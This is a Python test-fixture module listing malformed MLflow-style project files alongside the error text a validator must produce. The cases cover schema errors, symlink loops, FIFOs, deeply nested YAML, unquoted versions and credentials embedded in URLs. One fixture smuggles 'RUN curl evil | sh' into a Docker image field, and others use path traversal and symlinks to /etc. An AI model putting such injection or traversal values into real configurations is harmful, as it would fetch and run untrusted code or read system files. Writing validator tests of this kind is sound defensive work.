"""Table of bad codesets: files → the words the one-line error must contain."""

from __future__ import annotations

import os
from dataclasses import dataclass
from pathlib import Path

MAIN = "entry_points:\n  main:\n    command: python train.py\n"

BAD_CODESETS: dict[str, tuple[dict[str, Entry], tuple[str, ...]]] = {
    "missing MLproject": ({"requirements.txt": "numpy\n"}, ("MLproject", "no MLproject")),
    "MLproject not a mapping": ({"MLproject": "- a\n- b\n", "requirements.txt": "numpy\n"},
                                ("MLproject", "mapping", "list")),
    "MLproject empty": ({"MLproject": "", "requirements.txt": "numpy\n"},
                        ("MLproject", "empty")),
    "no entry_points": ({"MLproject": "name: x\n", "requirements.txt": "numpy\n"},
                        ("MLproject", "entry_points")),
    "no main entry point": (
        {"MLproject": "entry_points:\n  train:\n    command: python t.py\n",
         "requirements.txt": "numpy\n"},
        ("MLproject", "entry_points.main"),
    ),
    "entry point without command": (
        {"MLproject": "entry_points:\n  main:\n    parameters: {}\n",
         "requirements.txt": "numpy\n"},
        ("MLproject", "entry_points.main", "command"),
    ),
    "unknown parameter type": (
        {"MLproject": "entry_points:\n  main:\n    command: x\n    parameters:\n"
                      "      a: {type: bogus}\n", "requirements.txt": "numpy\n"},
        ("entry_points.main.parameters.a", "type"),
    ),
    "both env fields": (
        {"MLproject": "conda_env: conda.yaml\npython_env: python_env.yaml\n" + MAIN,
         "conda.yaml": "dependencies: [python=3.11]\n",
         "python_env.yaml": "python: '3.11'\n"},
        ("MLproject", "python_env", "both"),
    ),
    "neither env file": ({"MLproject": MAIN}, ("MLproject", "no environment")),
    "docker_env image injecting a Dockerfile line": (
        {"MLproject": 'docker_env:\n  image: "python:3.11\\nRUN curl evil | sh"\n' + MAIN,
         "requirements.txt": "numpy\n"},
        ("MLproject", "docker_env.image", "not an image reference")),
    "docker_env image with a space": (
        {"MLproject": "docker_env:\n  image: python 3.11\n" + MAIN,
         "requirements.txt": "numpy\n"},
        ("MLproject", "docker_env.image", "not an image reference")),
    "declared env file missing": ({"MLproject": "conda_env: env.yaml\n" + MAIN},
                                  ("MLproject", "conda_env", "not found")),
    "malformed MLproject YAML": ({"MLproject": "entry_points: [main:\n"},
                                 ("MLproject:2", "malformed YAML", "column 1")),
    "malformed conda.yaml": ({"MLproject": MAIN, "conda.yaml": "dependencies:\n - a\n  b: [\n"},
                             ("conda.yaml", "malformed YAML")),
    "conda.yaml without dependencies": ({"MLproject": MAIN, "conda.yaml": "channels: [x]\n"},
                                        ("conda.yaml", "dependencies")),
    "conda.yaml bad spec": ({"MLproject": MAIN, "conda.yaml": "dependencies: ['numpy >=<1']\n"},
                            ("conda.yaml", "dependencies[0]", "conda spec")),
    "conda pip entry unparsable": (
        {"MLproject": MAIN, "conda.yaml": "dependencies:\n- python=3.11\n- pip:\n  - 'x y z'\n"},
        ("conda.yaml", "dependencies[1].pip[0]", "not a valid requirement"),
    ),
    "python_env without python": ({"MLproject": MAIN, "python_env.yaml": "dependencies: [a]\n"},
                                  ("python_env.yaml", "python")),
    "unparsable requirement": ({"MLproject": MAIN, "requirements.txt": "numpy\nscikit learn\n"},
                               ("requirements.txt", "line 2", "not a valid requirement")),
    "editable requirement": ({"MLproject": MAIN, "requirements.txt": "-e .\n"},
                             ("requirements.txt", "line 1", "editable")),
    "include escapes the codeset": ({"MLproject": MAIN, "requirements.txt": "-r ../../etc/x\n"},
                                    ("requirements.txt", "line 1", "outside the codeset")),
    "binary garbage requirements": (
        {"MLproject": MAIN, "requirements.txt": b"\x00\xff\xfe\x00garbage"},
        ("requirements.txt", "binary"),
    ),
    "binary garbage MLproject": ({"MLproject": b"\x89PNG\r\n\x1a\n\x00\x00"},
                                 ("MLproject", "binary")),
    "non-UTF-8 conda.yaml": ({"MLproject": MAIN, "conda.yaml": b"dependencies: [\xe9]\n"},
                             ("conda.yaml", "UTF-8")),
    "lockfile not conda-lock": ({"MLproject": MAIN, "conda-lock.yml": "version: 1\n"},
                                ("conda-lock.yml", "conda-lock")),
}


# ---------------------------------------------------------------------------------------------
# Special directory entries: symlinks, FIFOs and (sparse) huge files, written by `materialise`.

@dataclass(frozen=True)
class Link:
    """A symlink to ``target`` (as written: relative to the link's directory, or absolute)."""

    target: str


@dataclass(frozen=True)
class Fifo:
    """A named pipe: reading it would block until a writer comes (forever)."""


@dataclass(frozen=True)
class Sparse:
    """A file of ``size`` bytes that takes no disk space (``head`` first, zeros after)."""

    size: int
    head: bytes = b""


Entry = str | bytes | Link | Fifo | Sparse


def materialise(root: Path, files: dict[str, Entry]) -> Path:
    """Create ``root`` with {relative path: content or special entry}."""
    root.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Link):
            os.symlink(content.target, path)
        elif isinstance(content, Fifo):
            os.mkfifo(path)
        elif isinstance(content, Sparse):
            with path.open("wb") as handle:
                handle.write(content.head)
                handle.truncate(content.size)
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content)
    return root


# Every secret in the corpus contains SECRET; no message may (tests check it for every case).
SECRET = "s3cr3t"
DEEP = 100_000
REQ = {"requirements.txt": "numpy\n"}


def _project(parameters: str = "", *, entry: str | None = None, head: str = "") -> dict[str, str]:
    """An MLproject whose main entry point has ``parameters`` (YAML under 'parameters:')."""
    if entry is None:
        entry = "  main:\n    command: python train.py\n"
        if parameters:
            entry += "    parameters:\n" + "".join(f"      {line}\n"
                                                   for line in parameters.splitlines())
    return {"MLproject": head + "entry_points:\n" + entry, **REQ}


_WHERE = "entry_points.main.parameters.a"

# 1. MLproject parameter specs and entry points of the wrong shape.
SHAPES: dict[str, tuple[dict[str, Entry], tuple[str, ...]]] = {
    "parameter spec is a number": (_project("a: 5"), (_WHERE, "type name", "a number")),
    "parameter spec is a list": (_project("a: [float, int]"), (_WHERE, "a list")),
    "parameter spec is null": (_project("a:"), (_WHERE, "got nothing")),
    "parameter spec is true": (_project("a: true"), (_WHERE, "true/false")),
    "parameter type is a list": (_project("a: {type: [float]}"),
                                 (f"{_WHERE}.type", "type must be one of", "a list")),
    "parameter type is a mapping": (_project("a: {type: {float: 1}}"),
                                    (f"{_WHERE}.type", "a mapping")),
    "parameter type is null": (_project("a: {type: null}"), (f"{_WHERE}.type", "nothing")),
    "parameter type is a number": (_project("a: {type: 5}"), (f"{_WHERE}.type", "a number")),
    "parameter type unknown (string form)": (_project("a: integer"),
                                            (_WHERE, "type must be one of")),
    "default is a list": (_project("a: {type: string, default: [1, 2]}"),
                          (f"{_WHERE}.default", "single value", "a list")),
    "default is a mapping": (_project("a: {type: float, default: {x: 1}}"),
                             (f"{_WHERE}.default", "single value", "a mapping")),
    "default is a nested mapping (block)": (
        _project("a:\n  type: int\n  default:\n    x:\n      y: 1"),
        (f"{_WHERE}.default", "a mapping")),
    "int default not a number": (_project("a: {type: int, default: abc}"),
                                 (f"{_WHERE}.default", "does not fit type int", "a string")),
    "int default a fraction": (_project("a: {type: int, default: 1.5}"),
                               (f"{_WHERE}.default", "type int", "a number")),
    "int default true": (_project("a: {type: int, default: true}"),
                         (f"{_WHERE}.default", "type int", "true/false")),
    "float default not a number": (_project("a: {type: float, default: fast}"),
                                   (f"{_WHERE}.default", "type float")),
    "path default a number": (_project("a: {type: path, default: 5}"),
                              (f"{_WHERE}.default", "type path", "a number")),
    "uri default true": (_project("a: {type: uri, default: yes}"),
                         (f"{_WHERE}.default", "type uri", "true/false")),
    "parameters is a list": (_project(entry="  main:\n    command: x\n    parameters: [a, b]\n"),
                             ("entry_points.main.parameters", "a list")),
    "parameters is a string": (_project(entry="  main:\n    command: x\n    parameters: a\n"),
                               ("entry_points.main.parameters", "a string")),
    "parameter name is null": (_project("~: float"),
                               ("entry_points.main.parameters", "parameter names", "nothing")),
    "parameter name is a number": (_project("1: float"),
                                   ("entry_points.main.parameters", "a number")),
    "entry_points is a list": (_project(entry="  - main\n"), ("entry_points", "a list")),
    "entry_points is a string": ({"MLproject": "entry_points: main\n", **REQ},
                                 ("entry_points", "a string")),
    "entry_points is null": ({"MLproject": "entry_points:\n", **REQ},
                             ("entry_points", "got nothing")),
    "entry point is a string": (_project(entry="  main: python train.py\n"),
                                ("entry_points.main", "'command' string", "a string")),
    "entry point is a list": (_project(entry="  main: [python, train.py]\n"),
                              ("entry_points.main", "a list")),
    "entry point is null": (_project(entry="  main:\n"), ("entry_points.main", "nothing")),
    "entry point is a number": (_project(entry="  main: 5\n"), ("entry_points.main", "a number")),
    "command is a list": (_project(entry="  main:\n    command: [python, t.py]\n"),
                          ("entry_points.main.command", "a list")),
    "command is a mapping": (_project(entry="  main:\n    command: {python: t.py}\n"),
                             ("entry_points.main.command", "a mapping")),
    "command is a number": (_project(entry="  main:\n    command: 5\n"),
                            ("entry_points.main.command", "a number")),
    "command is empty": (_project(entry="  main:\n    command: ''\n"),
                         ("entry_points.main.command", "empty")),
    "entry point name is a number": (
        _project(entry="  main:\n    command: x\n  1:\n    command: y\n"),
        ("entry_points", "entry point names", "a number")),
    "second entry point malformed": (
        _project(entry="  main:\n    command: x\n  train:\n    parameters: {a: 5}\n"),
        ("entry_points.train", "'command' string")),
    "project name is a mapping": (_project("a: float", head="name: {x: 1}\n"),
                                  ("MLproject: name", "a mapping")),
    "docker_env is a list": (_project(head="docker_env: [python:3.11]\n"),
                             ("docker_env.image", "'image' string")),
    "conda_env is a list": ({"MLproject": "conda_env: [conda.yaml]\n" + MAIN},
                            ("MLproject: conda_env", "file path", "a list")),
    "python_env is a mapping": ({"MLproject": "python_env: {file: p.yaml}\n" + MAIN},
                                ("MLproject: python_env", "a mapping")),
}

# 2. Symlinks that dangle or loop, include loops, FIFOs where files belong.
LINKS: dict[str, tuple[dict[str, Entry], tuple[str, ...]]] = {
    "requirements.txt dangling symlink": (
        {"MLproject": MAIN, "requirements.txt": Link("missing.txt")},
        ("requirements.txt: symlink to 'missing.txt' does not resolve",)),
    "requirements.txt symlink to itself": (
        {"MLproject": MAIN, "requirements.txt": Link("requirements.txt")},
        ("requirements.txt: symlink loops",)),
    "requirements.txt symlink loop of two": (
        {"MLproject": MAIN, "requirements.txt": Link("b.txt"), "b.txt": Link("requirements.txt")},
        ("requirements.txt: symlink loops",)),
    "conda.yaml dangling symlink": ({"MLproject": MAIN, "conda.yaml": Link("envs/conda.yaml")},
                                    ("conda.yaml: symlink to", "does not resolve")),
    "python_env.yaml symlink loop": (
        {"MLproject": MAIN, "python_env.yaml": Link("python_env.yaml")},
        ("python_env.yaml: symlink loops",)),
    "conda-lock.yml dangling symlink": (
        {"MLproject": MAIN, "conda-lock.yml": Link("gone.yml"), **REQ},
        ("conda-lock.yml: symlink", "does not resolve")),
    "conda-lock.yml outside the codeset": (
        {"MLproject": MAIN, "conda-lock.yml": Link("/etc/hostname"), **REQ},
        ("conda-lock.yml", "outside the codeset")),
    "MLproject dangling symlink": ({"MLproject": Link("MLproject.real"), **REQ},
                                   ("MLproject: symlink to 'MLproject.real' does not resolve",)),
    "MLproject symlink loop": ({"MLproject": Link("MLproject"), **REQ},
                               ("MLproject: symlink loops",)),
    "MLproject outside the codeset": ({"MLproject": Link("/etc/hostname"), **REQ},
                                      ("MLproject", "outside the codeset")),
    "include is a symlink to itself": (
        {"MLproject": MAIN, "requirements.txt": "-r self.txt\n", "self.txt": Link("self.txt")},
        ("requirements.txt: line 1", "'self.txt' loops")),
    "constraint is a dangling symlink": (
        {"MLproject": MAIN, "requirements.txt": "numpy\n-c pins.txt\n",
         "pins.txt": Link("locks/pins.txt")},
        ("requirements.txt: line 2", "'pins.txt'", "does not resolve")),
    "include loop of two files": (
        {"MLproject": MAIN, "requirements.txt": "-r a.txt\n", "a.txt": "-r b.txt\n",
         "b.txt": "-r a.txt\n"},
        ("include cycle", "a.txt -> b.txt -> a.txt")),
    "include of itself": ({"MLproject": MAIN, "requirements.txt": "numpy\n-r requirements.txt\n"},
                          ("requirements.txt", "include cycle")),
    "include through a symlink back to the includer": (
        {"MLproject": MAIN, "requirements.txt": "-r back.txt\n",
         "back.txt": Link("requirements.txt")},
        ("include cycle",)),
    "include loop in python_env.yaml": (
        {"MLproject": MAIN, "python_env.yaml": "python: '3.11'\ndependencies: [-r a.txt]\n",
         "a.txt": "-r a.txt\n"},
        ("include cycle",)),
    "declared conda_env dangling symlink": (
        {"MLproject": "conda_env: env.yaml\n" + MAIN, "env.yaml": Link("nowhere.yaml")},
        ("MLproject: conda_env", "does not resolve")),
    "requirements.txt is a FIFO": ({"MLproject": MAIN, "requirements.txt": Fifo()},
                                   ("requirements.txt", "a FIFO, not a regular file")),
    "MLproject is a FIFO": ({"MLproject": Fifo(), **REQ}, ("MLproject", "a FIFO")),
    "include is a FIFO": ({"MLproject": MAIN, "requirements.txt": "-r pipe.txt\n",
                           "pipe.txt": Fifo()}, ("pipe.txt", "a FIFO")),
    "conda.yaml is a FIFO": ({"MLproject": MAIN, "conda.yaml": Fifo()}, ("conda.yaml", "FIFO")),
    "requirements.txt 200 MB (sparse)": (
        {"MLproject": MAIN, "requirements.txt": Sparse(200 * 1024 * 1024, b"numpy\n")},
        ("requirements.txt: file is 209.7 MB, over the 5 MiB limit",)),
    "MLproject 200 MB (sparse)": ({"MLproject": Sparse(200 * 1024 * 1024, MAIN.encode()), **REQ},
                                  ("MLproject: file is", "over the 5 MiB limit")),
}

# 3. Nesting too deep (PyYAML recurses per level: a RecursionError without the bound).
NESTING: dict[str, tuple[dict[str, Entry], tuple[str, ...]]] = {
    "MLproject [[[...]]] 100k deep": ({"MLproject": "[" * DEEP + "]" * DEEP, **REQ},
                                      ("MLproject:1", "nesting too deep")),
    "MLproject {a: {a: ...}} 100k deep": ({"MLproject": "{a: " * DEEP + "1" + "}" * DEEP, **REQ},
                                          ("MLproject:1", "nesting too deep")),
    "MLproject parameter default 100k deep": (
        _project("a: {type: string, default: " + "[" * DEEP + "]" * DEEP + "}"),
        ("MLproject:", "nesting too deep")),
    "MLproject block nesting 200 deep": (
        {"MLproject": "".join(" " * i + "a:\n" for i in range(200)), **REQ},
        ("MLproject:64", "nesting too deep")),
    "MLproject block sequences 100k deep": ({"MLproject": "- " * DEEP + "x\n", **REQ},
                                            ("MLproject:1", "nesting too deep")),
    "MLproject recursive alias": (_project("a: &loop {type: string, default: [*loop]}"),
                                  ("MLproject:", "recursive alias")),
    "conda.yaml deep": ({"MLproject": MAIN, "conda.yaml": "dependencies: " + "[" * DEEP},
                        ("conda.yaml:1", "nesting too deep")),
    "python_env.yaml deep": ({"MLproject": MAIN, "python_env.yaml": "python: " + "{a: " * DEEP},
                             ("python_env.yaml:1", "nesting too deep")),
    "conda-lock.yml deep": ({"MLproject": MAIN, "conda-lock.yml": "- " * DEEP + "x\n"},
                            ("conda-lock.yml:1", "nesting too deep")),
}

# 4. Versions YAML reads as numbers.
NUMBERS: dict[str, tuple[dict[str, Entry], tuple[str, ...]]] = {
    "python_env python: 3.10 unquoted": (
        {"MLproject": MAIN, "python_env.yaml": "python: 3.10\n"},
        ('python_env.yaml: python: 3.10 was read as the number 3.1; quote it: python: "3.10"',)),
    "python_env python: 3.20 unquoted": (
        {"MLproject": MAIN, "python_env.yaml": "python: 3.20\ndependencies: [numpy]\n"},
        ('python: 3.20 was read as the number 3.2; quote it: python: "3.20"',)),
    "python_env python: 3:10 (base 60)": (
        {"MLproject": MAIN, "python_env.yaml": "python: 3:10\n"},
        ("python: 3:10 was read as the number 190", 'python: "3:10"')),
    "python_env python is a list": ({"MLproject": MAIN, "python_env.yaml": "python: [3, 11]\n"},
                                    ("python_env.yaml: python", "a list")),
    "declared python_env python: 3.10": (
        {"MLproject": "python_env: envs/py.yaml\n" + MAIN, "envs/py.yaml": "python: 3.10\n"},
        ("envs/py.yaml: python: 3.10 was read as the number 3.1",)),
    "conda.yaml '- python: 3.10'": (
        {"MLproject": MAIN, "conda.yaml": "dependencies:\n- python: 3.10\n- pip\n"},
        ("conda.yaml: dependencies[0]: python: 3.10 was read as the number 3.1; quote it",
         '"python=3.10"')),
    "conda.yaml '- 3.10'": ({"MLproject": MAIN, "conda.yaml": "dependencies: [python, 3.10]\n"},
                            ("dependencies[1]", "3.10 was read as the number 3.1")),
    "conda.yaml '- numpy: 1.26' mapping": (
        {"MLproject": MAIN, "conda.yaml": "dependencies:\n- numpy: 1.26\n"},
        ("dependencies[0]", "'name=version', not 'name: version'")),
}

# 5. YAML errors never quote the document (a secret read as an alias, a tag, an anchor).
YAML_ERRORS: dict[str, tuple[dict[str, Entry], tuple[str, ...]]] = {
    "alias token in MLproject": ({"MLproject": MAIN + f"token: *{SECRET}abc\n", **REQ},
                                 ("MLproject:4", "column 8", "undefined alias")),
    "tag token in MLproject": ({"MLproject": MAIN + f"token: !{SECRET}abc x\n", **REQ},
                               ("MLproject:4", "column 8", "unknown tag")),
    "python tag in MLproject": ({"MLproject": MAIN + f"x: !!python/object:{SECRET} a\n", **REQ},
                                ("MLproject:4", "unknown tag")),
    "verbatim tag token in conda.yaml": (
        {"MLproject": MAIN, "conda.yaml": f"dependencies: [!<tag:{SECRET}> numpy]\n"},
        ("conda.yaml:1", "unknown tag")),
    "alias token in conda.yaml": (
        {"MLproject": MAIN, "conda.yaml": f"channels:\n- *{SECRET}\ndependencies: [numpy]\n"},
        ("conda.yaml:2", "column 3", "undefined alias")),
    "duplicate anchor in python_env.yaml": (
        {"MLproject": MAIN, "python_env.yaml": f"python: &{SECRET} '3.11'\nx: &{SECRET} 1\n"},
        ("python_env.yaml:2", "duplicate anchor")),
    "bad alias character": ({"MLproject": MAIN + f"password: *${SECRET}\n", **REQ},
                            ("MLproject:4", "scanning an alias")),
    "bad escape in a double-quoted secret": (
        {"MLproject": MAIN + f'token: "\\x{SECRET}"\n', **REQ},
        ("MLproject:4", "hexadecimal")),
    "character that cannot start a token": ({"MLproject": MAIN + f"token: @{SECRET}\n", **REQ},
                                            ("MLproject:4", "cannot start any token")),
    "tab indentation": ({"MLproject": "entry_points:\n\tmain: {command: x}\n", **REQ},
                        ("MLproject:2", "a tab", "indent with spaces")),
    "impossible date": ({"MLproject": MAIN + "date: 2024-13-45\n", **REQ},
                        ("MLproject:4", "does not fit its type")),
    "!!int that is not one": ({"MLproject": MAIN + f"x: !!int {SECRET}\n", **REQ},
                              ("MLproject:4", "does not fit its type")),
    "!!bool that is not one": ({"MLproject": MAIN + f"x: !!bool {SECRET}\n", **REQ},
                               ("MLproject:4", "does not fit its type")),
    "!!set of a list": ({"MLproject": MAIN + "x: !!set [a]\n", **REQ},
                        ("MLproject:4", "malformed YAML")),
    "control character": ({"MLproject": MAIN + f"x: {SECRET}\x07\n", **REQ},
                          ("MLproject:4", "control character")),
    "duplicate key in MLproject": ({"MLproject": MAIN + "name: a\nname: b\n", **REQ},
                                   ("MLproject:5", "key 'name' is given twice")),
    "duplicate key in conda.yaml": (
        {"MLproject": MAIN, "conda.yaml": "dependencies: [a]\ndependencies: [b]\n"},
        ("conda.yaml:2", "'dependencies' is given twice")),
    "two documents in MLproject": ({"MLproject": MAIN + "---\n" + MAIN, **REQ},
                                   ("MLproject:4", "single document")),
}

# 6. Credentials in requirement lines and URLs: refused, and echoed only redacted.
_CREDS = f"user:{SECRET}@"
CREDENTIALS: dict[str, tuple[dict[str, Entry], tuple[str, ...]]] = {
    name: ({"MLproject": MAIN, "requirements.txt": line}, ("requirements.txt: line 1", *words))
    for name, line, words in (
        ("direct URL with user:password", f"pkg @ https://{_CREDS}files.example/p.tar.gz\n",
         ("'files.example' embeds credentials",)),
        ("direct URL with a token as user", f"pkg @ https://{SECRET}tok@files.example/p.whl\n",
         ("embeds credentials",)),
        ("direct URL with ?access_token=",
         f"pkg @ https://files.example/p.whl?access_token={SECRET}\n", ("embeds credentials",)),
        ("direct URL with ?token=", f"pkg @ https://files.example/p.whl?x=1&token={SECRET}\n",
         ("embeds credentials",)),
        ("direct URL with X-Amz-Signature",
         f"pkg @ https://b.s3.example/p.whl?X-Amz-Credential=AK%2F{SECRET}&X-Amz-Signature="
         f"{SECRET}\n", ("embeds credentials",)),
        ("direct URL with ?sig=", f"pkg @ https://a.blob.example/p.whl?sv=1&sig={SECRET}\n",
         ("embeds credentials",)),
        ("index URL with ?token=", f"--index-url https://pypi.example/simple?token={SECRET}\n",
         ("'pypi.example' embeds credentials",)),
        ("inline index URL with user:password", f"--index-url=https://{_CREDS}pypi.example/s\n",
         ("embeds credentials",)),
        ("extra index URL with a token as user",
         f"--extra-index-url https://{SECRET}@pypi.example/simple\n", ("embeds credentials",)),
        ("find-links with ?sig=", f"--find-links https://links.example/?sig={SECRET}\n",
         ("embeds credentials",)),
        ("find-links with user:password", f"-f https://{_CREDS}links.example/\n",
         ("embeds credentials",)),
        ("find-links not a URL", f"--find-links ./wheels?token={SECRET}\n", ("must be a URL",)),
        ("VCS URL with a token", f"pkg @ git+https://{SECRET}@github.com/o/r.git\n",
         ("VCS and file URLs",)),
        ("VCS URL with oauth2:token", f"pkg @ git+https://oauth2:{SECRET}@gitlab.example/r.git\n",
         ("VCS and file URLs", "oauth2:***@")),
        ("bare VCS URL with a token", f"git+https://oauth2:{SECRET}@gitlab.example/o/r.git\n",
         ("bare URL",)),
        ("bare URL with user:password", f"https://{_CREDS}files.example/p.tar.gz\n",
         ("bare URL",)),
        ("unparsable line with a URL password",
         f"pkg ==1 @ https://{_CREDS}files.example/p.whl\n", ("not a valid requirement",)),
        ("unparsable line with a query token",
         f"pkg @ https://files.example/p.whl?token={SECRET} ; os_name ==\n",
         ("not a valid requirement",)),
        ("editable VCS URL with a token", f"-e git+https://{_CREDS}git.example/r.git#egg=r\n",
         ("editable requirement",)),
        ("option glued to a URL", f"-ihttps://{_CREDS}pypi.example/simple\n",
         ("unsupported pip option",)),
        ("unterminated quote around a URL", f"--index-url \"https://{_CREDS}pypi.example/\n",
         ("cannot split",)),
        ("index URL that does not parse", "--index-url http://[::1/simple\n",
         ("not a valid URL",)),
        ("index URL without a value", "--index-url\n", ("'--index-url' needs a value",)),
        ("unsupported option with a token", f"--cert-token={SECRET}\n",
         ("unsupported pip option",)),
    )
}
CREDENTIALS.update({
    "conda pip section with ?access_token=": (
        {"MLproject": MAIN, "conda.yaml": "dependencies:\n- python=3.11\n- pip:\n"
                                          f"  - pkg @ https://f.example/p.whl?access_token={SECRET}\n"},
        ("conda.yaml: dependencies[1].pip[0]", "embeds credentials")),
    "python_env dependency with user:password": (
        {"MLproject": MAIN, "python_env.yaml": "python: '3.11'\ndependencies:\n"
                                               f"- pkg @ https://{_CREDS}f.example/p.whl\n"},
        ("python_env.yaml: dependencies[0]", "embeds credentials")),
    "include with a query token": (
        {"MLproject": MAIN, "requirements.txt": "-r more.txt\n",
         "more.txt": f"--extra-index-url https://p.example/simple?api_key={SECRET}\n"},
        ("more.txt: line 1", "embeds credentials")),
    "conda channel with user:password": (
        {"MLproject": MAIN, "conda.yaml": f"channels: [https://{_CREDS}conda.example/ch]\n"
                                          "dependencies: [numpy]\n"},
        ("conda.yaml: channels[0]", "embeds credentials")),
    "conda channel with ?token=": (
        {"MLproject": MAIN, "conda.yaml": f"channels: ['https://conda.example/ch?token={SECRET}']"
                                          "\ndependencies: [numpy]\n"},
        ("conda.yaml: channels[0]", "embeds credentials")),
    "conda channel with an anaconda.org token": (
        {"MLproject": MAIN, "conda.yaml": "channels: [https://conda.anaconda.org/t/"
                                          f"{SECRET}-0123456789/corp]\ndependencies: [numpy]\n"},
        ("conda.yaml: channels[0]", "anaconda.org token")),
    "conda spec from a channel with user:password": (
        {"MLproject": MAIN, "conda.yaml": f"dependencies: ['https://{_CREDS}c.example/ch::numpy']\n"},
        ("conda.yaml: dependencies[0]", "embeds credentials")),
    "conda spec unparsable with a token": (
        {"MLproject": MAIN, "conda.yaml": f"dependencies: ['numpy >=<1 token={SECRET}']\n"},
        ("conda.yaml: dependencies[0]", "not a valid conda spec")),
    "python version echoed with a token": (
        {"MLproject": MAIN, "python_env.yaml": f"python: 'https://{_CREDS}x'\n"},
        ("python_env.yaml: python", "expected a version")),
    "declared env path echoed with a token": (
        {"MLproject": f"conda_env: 'envs/x?token={SECRET}'\n" + MAIN},
        ("MLproject: conda_env", "not found")),
})

BAD_CODESETS.update(SHAPES)
BAD_CODESETS.update(LINKS)
BAD_CODESETS.update(NESTING)
BAD_CODESETS.update(NUMBERS)
BAD_CODESETS.update(YAML_ERRORS)
BAD_CODESETS.update(CREDENTIALS)
